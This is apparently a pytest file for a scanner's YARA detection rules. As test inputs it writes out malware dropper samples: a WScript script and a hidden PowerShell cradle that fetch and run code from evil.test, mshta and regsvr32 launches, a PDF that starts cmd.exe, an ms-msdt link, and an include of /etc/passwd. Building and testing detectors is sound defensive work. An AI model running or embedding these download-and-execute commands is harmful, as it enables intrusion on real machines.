"""Rules: our own match what they are for and leave ordinary files alone; the admin's are checked before use."""

from pathlib import Path

import pytest

from lockdown.model.unknown import Unknown
from lockdown.scan.yara_rules import SCANNED_BYTES, Match, RuleFile, builtin_rules, check_rules, compiled
from tests.rig import corpora

RULES = compiled(builtin_rules())
SCRIPT = b"""
var shell = new ActiveXObject("WScript.Shell"), page = new ActiveXObject("MSXML2.XMLHTTP");
page.open("GET", "http://evil.test/a"); file = new ActiveXObject("ADODB.Stream"); file.SaveToFile("a"); shell.Run("a");
"""


def names(data: bytes) -> set[str]:
    found = RULES.matches(data)
    assert not isinstance(found, Unknown), found
    return {match.rule for match in found}


@pytest.mark.parametrize(
    ("rule", "data"),
    [
        (
            "Dropper_WindowsScript",
            SCRIPT,
        ),
        (
            "Dropper_PowerShellDownload",
            b"powershell -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://evil.test/a')",
        ),
        ("Dropper_PowerShellEncoded", "powershell.exe -nop -EncodedCommand ".encode("utf-16-le")
         + ("JAB" * 30).encode("utf-16-le")),
        ("Dropper_LivingOffTheLand", b"mshta.exe http://evil.test/a.hta"),
        ("Dropper_LivingOffTheLand", b"regsvr32 /s /n /u /i:http://evil.test/a.sct scrobj.dll"),
        ("Script_Encoded", b"<script language=VBScript.Encode>#@~^AAAAAA==abc==^#~@</script>"),
        ("Smuggling_DataLink", b'<a href="data:application/zip;base64,UEsDBBQAAA" download="a.zip">'),
        ("Rtf_EquationObject", b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata 0105}}}"),
        ("Pdf_StartsProgram", b"%PDF-1.4\n<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
        ("Document_ExternalHelp", b'location.href = "ms-msdt:/id PCWDiagnostic /skip force"'),
        ("Shortcut_WithCommand", b"\x4c\0\0\0\x01\x14\x02\0" + bytes(80) + "powershell -enc".encode("utf-16-le")),
    ],
)  # fmt: skip
def test_a_builtin_rule_matches_what_it_is_for(rule: str, data: bytes) -> None:
    assert rule in names(data)


@pytest.mark.parametrize(
    "data",
    [
        b"Our administrators use powershell to restart the service; see Invoke-WebRequest in the manual.",
        b"<html><script>var a = document.getElementById('x'); a.onclick = function () { f(); };</script></html>",
        b'Set shell = CreateObject("WScript.Shell")\nshell.Run "notepad"',
        b"{\\rtf1\\ansi Equation.3 is the name of an old editor.}",
        b"%PDF-1.4\n/OpenAction << /S /GoTo >>",
    ],
)
def test_ordinary_files_match_no_rule(data: bytes) -> None:
    assert names(data) == set()


def test_no_message_of_the_corpora_matches_as_a_file() -> None:
    if why := corpora.why_no_corpora():
        pytest.skip(why)
    ham = [specimen for specimen in corpora.spam_and_ham(300) if "ham" in specimen.name]
    assert [(specimen.name, found) for specimen in ham if (found := names(specimen.content))] == []


def test_a_suspicion_is_no_find() -> None:
    page = b"<script>document.write(unescape('%3c'))</script>" + b"x" * 1100
    assert [(match.rule, match.suspicious) for match in RULES.matches(page)] == [("Page_UnpacksItself", True)]  # type: ignore[union-attr]


def test_octets_that_make_rules_work_hard_end_in_time() -> None:
    for hard in (b"powershell -x ", b"/P (aaaaaa", b"12, 345,", b"eval(", b"QUJD"):
        assert not isinstance(RULES.matches(hard * 20_000), Unknown)


def test_a_large_file_is_searched_piece_by_piece_and_across_their_edges() -> None:
    rules = compiled([RuleFile("own", 'rule Own { strings: $a = "the word" condition: $a }')])
    large = bytes(SCANNED_BYTES - 4)
    assert rules.matches(large + bytes(12)) == ()
    assert rules.matches(large + b"the word") == (Match("Own", False, "own"),)


# ── the admin's ──


def test_a_good_rule_file_has_no_problems(tmp_path: Path) -> None:
    path = tmp_path / "own.yar"
    path.write_text('import "pe"\nrule a { strings: $x = "y" condition: $x and pe.is_pe }')
    assert check_rules([str(path)]) == []


@pytest.mark.parametrize("text", ["rule a { condition: nothing }", "rule", 'include "/etc/passwd"', b"\xff\xfe", None])
def test_a_bad_rule_file_is_told_by_name(text: str | bytes | None, tmp_path: Path) -> None:
    path = tmp_path / "own.yar"
    if text is not None:
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
    (problem,) = check_rules([str(path)])
    assert str(path) in problem


def test_a_rule_file_cannot_read_other_files(tmp_path: Path) -> None:
    (tmp_path / "other.yar").write_text("rule b { condition: true }")
    (tmp_path / "own.yar").write_text(f'include "{tmp_path / "other.yar"}"')
    assert check_rules([str(tmp_path / "other.yar")]) == [] != check_rules([str(tmp_path / "own.yar")])


def test_two_files_may_use_the_same_name_for_a_rule() -> None:
    rules = compiled([RuleFile("a", "rule same { condition: true }"), RuleFile("b", "rule same { condition: true }")])
    assert [match.file for match in rules.matches(b"x")] == ["a", "b"]  # type: ignore[union-attr]
